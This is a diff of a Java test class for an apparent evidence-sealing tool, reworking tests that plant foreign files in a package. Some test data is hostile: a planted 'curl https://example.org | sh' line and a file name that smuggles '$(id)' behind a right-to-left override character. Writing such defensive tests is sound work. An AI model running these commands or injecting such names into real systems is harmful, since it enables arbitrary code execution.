@@ -16,7 +16,6 @@ import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.Objects;
-import java.util.Optional;
 import java.util.concurrent.atomic.AtomicReference;
 import org.ephemera.collect.ClaimLostException;
 import org.ephemera.collect.CollectionListener;
@@ -33,18 +32,14 @@ import org.ephemera.seal.PemSigner;
 import org.ephemera.store.Blob;
 import org.ephemera.store.DirectoryEvidenceStore;
 import org.ephemera.store.EvidenceStore;
-import org.ephemera.store.ForeignObjectException;
-import org.ephemera.store.ObjectLock;
-import org.ephemera.store.Retention;
 import org.ephemera.store.StoreException;
 import org.ephemera.store.StoreListing;
 import org.ephemera.store.StoredObject;
 import org.ephemera.testing.AcquisitionRequests;
-import org.ephemera.testing.FakeVersionedStore;
 import org.ephemera.testing.IndependentVerifiers;
 import org.ephemera.testing.InterceptedStore;
 import org.ephemera.testing.PagedSource;
-import org.ephemera.testing.SealedPackageMaker;
+import org.ephemera.testing.SignedState;
 import org.ephemera.verify.PackageVerifier;
 import org.ephemera.verify.VerificationResult;
 import org.jspecify.annotations.Nullable;
@@ -160,16 +155,14 @@ class WorkerCollisionTest {
     }
 
     @Test
-    void doesNotSealPlantedFile() throws Exception {
+    void sealsCopyWhenFileIsPlanted() throws Exception {
         Acquisition worker = worker("a", store);
         OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         byte[] planted = "curl https://example.org | sh\n".getBytes(StandardCharsets.UTF_8);
         store.create(opened.open().packageId().prefix() + PackageLayout.VERIFY, Blob.of(planted));
         worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
 
-        assertThatThrownBy(() -> worker.seal(opened)).hasMessageContaining("was not written by this version");
-        assertThat(folder.resolve("evidence").resolve(opened.open().packageId().prefix() + PackageLayout.SEAL))
-                .doesNotExist();
+        requireSealedCopy(worker, opened);
     }
 
     /** No other worker uses the name of this attempt, so an object at the path of its body is not its body. */
@@ -226,25 +219,6 @@ class WorkerCollisionTest {
         assertForeign(opened, path);
     }
 
-    /** An object key in a bucket can contain any character. */
-    @Test
-    void sealsAfterFileWithOddNameIsDeleted() throws Exception {
-        Acquisition worker = worker("a", store);
-        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
-        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
-        String prefix = opened.open().packageId().prefix();
-        Path planted = folder.resolve("evidence").resolve(prefix + PackageLayout.RAW + "00 \u202e$(id)");
-        Files.writeString(planted, "planted");
-
-        assertThatThrownBy(() -> worker.seal(opened))
-                .isInstanceOf(ForeignObjectException.class)
-                .hasMessageContaining(PackageLayout.RAW + "00 ?$(id)' is not a valid path");
-
-        Files.delete(planted);
-        worker.seal(opened);
-        assertIntact(opened.open().packageId());
-    }
-
     @Test
     void collectsAgainWhenPathOfLogSegmentIsOccupied() throws Exception {
         AtomicReference<@Nullable String> segment = new AtomicReference<>();
@@ -292,33 +266,10 @@ class WorkerCollisionTest {
         assertForeign(opened, path);
     }
 
-    /** No user can delete the file, because a lock protects it. */
-    @Test
-    void sealsCopyWhenForeignFileIsLocked() throws Exception {
-        ObjectLock locked =
-                new ObjectLock(Retention.Mode.COMPLIANCE, Optional.of(Instant.parse("2099-01-01T00:00:00Z")), false);
-        Acquisition worker = worker("a", new FakeVersionedStore(store, locked));
-        OpenPackage opened = worker.open(AcquisitionRequests.byHand("e-1", Retention.parse("compliance:30")), PLANNED);
-        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
-        PackageId id = opened.open().packageId();
-        Path stored = folder.resolve("evidence").resolve(id.prefix());
-        Files.writeString(stored.resolve("data/Notes.txt"), "planted");
-        assertThatThrownBy(() -> worker.seal(opened)).hasMessageContaining("--store file:DIR");
-
-        String day = id.prefix().replace(id.value() + "/", "");
-        Path copy = SealedPackageMaker.copy(stored, folder.resolve("copy").resolve(day));
-        Files.delete(copy.resolve("data/Notes.txt"));
-        DirectoryEvidenceStore other = DirectoryEvidenceStore.open(folder.resolve("copy"));
-        Acquisition there = worker("b", other);
-        there.seal(there.reopen(id));
-
-        IndependentVerifiers.accept(other, id, signer.publicKey());
-    }
-
     /** Names that a folder cannot contain next to the package's own, or that a file browser creates. */
     @ParameterizedTest
-    @ValueSource(strings = {"data/.DS_Store", "data/Notes.txt", "data/raw/loot.bin~"})
-    void sealsAfterFileWithInvalidNameIsDeleted(String path) throws Exception {
+    @ValueSource(strings = {"data/.DS_Store", "data/Notes.txt", "data/raw/loot.bin~", "data/raw/00 \u202e$(id)"})
+    void sealsCopyWhenNameIsInvalid(String path) throws Exception {
         Acquisition worker = worker("a", store);
         OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
@@ -327,19 +278,21 @@ class WorkerCollisionTest {
         Files.createDirectories(planted.getParent());
         Files.writeString(planted, "planted");
 
-        assertThatThrownBy(() -> worker.seal(opened))
-                .isInstanceOf(ForeignObjectException.class)
-                .hasMessageContaining(path + "' is not a valid path")
-                .hasMessageContaining("with every version");
+        requireSealedCopy(worker, opened);
+    }
 
-        Files.delete(planted);
-        worker.seal(opened);
-        assertIntact(opened.open().packageId());
+    private void requireSealedCopy(Acquisition worker, OpenPackage opened) throws Exception {
+        PackageId copy = worker.seal(opened).statement().packageId();
+        assertThat(copy).isNotEqualTo(opened.open().packageId());
+        assertThat(folder.resolve("evidence").resolve(opened.open().packageId().prefix() + PackageLayout.SEAL))
+                .doesNotExist();
+        assertIntact(copy);
+        assertThat(worker.isSealed(opened)).isTrue();
     }
 
     @Test
     void ignoresInvalidClaim() throws Exception {
-        Acquisition worker = worker("a", store);
+        Acquisition worker = worker("a", SignedState.over(store, folder.resolve("state.pem")));
         OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         PackageId id = opened.open().packageId();
         store.create("work/" + id + "/000001.json", Blob.of("{}".getBytes(StandardCharsets.UTF_8)));
